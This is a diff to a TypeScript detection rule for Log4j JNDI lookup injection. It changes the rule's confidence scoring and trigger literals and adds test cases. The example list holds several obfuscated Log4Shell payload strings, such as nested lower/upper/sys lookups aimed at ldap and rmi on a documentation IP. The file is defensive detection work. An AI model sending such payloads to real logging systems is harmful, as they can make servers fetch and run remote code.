@@ -1,5 +1,6 @@
 import { isWord } from '../../text/char-class.ts';
 import { lookupGrammar } from '../../tokenise/lookup.ts';
+import { confidence } from '../confidence.ts';
 import type { Match, ValueRule } from '../rule.ts';
 
 /** `${jndi:ldap://…}` and all that Log4j makes into it. */
@@ -8,9 +9,9 @@ export const lookup: ValueRule = {
   category: 'jndi',
   cwe: 'CWE-917',
   severity: 'critical',
-  score: 95,
+  score: confidence.certain,
   message: 'is a JNDI look-up once a logger has resolved what is nested in it',
-  trigger: { literals: [['${'], ['jndi', ':-', 'lower:', 'upper:', 'date:']] },
+  trigger: { literals: [['{'], ['jndi', ':-', 'lower:', 'upper:', 'date:']] },
   judge: (subject) => {
     let best: Match | undefined;
     const reading = subject.tokens(lookupGrammar);
@@ -21,15 +22,7 @@ export const lookup: ValueRule = {
       // The prefix of the look-up, or of one nested in it.
       const target = one.resolved.slice(at + 5).trimStart();
       const isStart = at === 0 || !isWord(one.resolved.charCodeAt(at - 1));
-      const score = !isStart
-        ? 50
-        : ellipsis.test(target)
-          ? 45
-          : protocol.test(target)
-            ? 97
-            : one.inner > 0 || target !== ''
-              ? 90
-              : 60;
+      const score = isStart ? scoreOf(target, one.inner > 0) : confidence.hint;
       if (score > (best?.score ?? 0)) best = { start: one.start, end: one.end, score };
     }
     return best;
@@ -43,11 +36,16 @@ export const lookup: ValueRule = {
     "${${date:'j'}ndi:iiop://203.0.113.5/a}",
     '${${lower:${upper:${lower:j}}}ndi:ldap://203.0.113.5/a}',
     '${jndi:ldap://203.0.113.5/a',
+    '{jnDi:ldap://203.0.113.5/a}',
+    '{${upper:j}ndi:${lower:l}dap:${sys:file.separator}/203.0.113.5/a}',
+    '${jndi${sys:path.separator}rmi:${sys:file.separator}/203.0.113.5/a}',
   ],
   lookalikes: [
     '${name} has ${count} messages',
     'echo ${HOME:-/root} ${LANG:-C}',
     '${user.name:-guest}',
+    '{jndi} is {count} letters, {lower:upper}',
+    '{date:"2026-01-01",lower:1}',
     'A JNDI look-up begins with jndi: and a URL.',
     'What is ${jndi:ldap://...} in my logs? Am I hacked?',
     'The hole was about ${jndi:...} look-ups; please upgrade.',
@@ -55,7 +53,10 @@ export const lookup: ValueRule = {
   ],
 };
 
-/** Where somebody speaks of look-ups, no host is named. */
+function scoreOf(target: string, isNested: boolean): number {
+  if (ellipsis.test(target)) return confidence.trace;
+  return isNested || target !== '' ? confidence.certain : confidence.hint;
+}
+
+/** Texts about look-ups name no host. */
 const ellipsis = /^(?:[a-z]{3,6}:(?:\/\/)?)?(?:\.{3}|…)$/;
-const protocol =
-  /^(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?|java|com\.sun|local|ejb|jms|[a-z]{2,10}:)/;
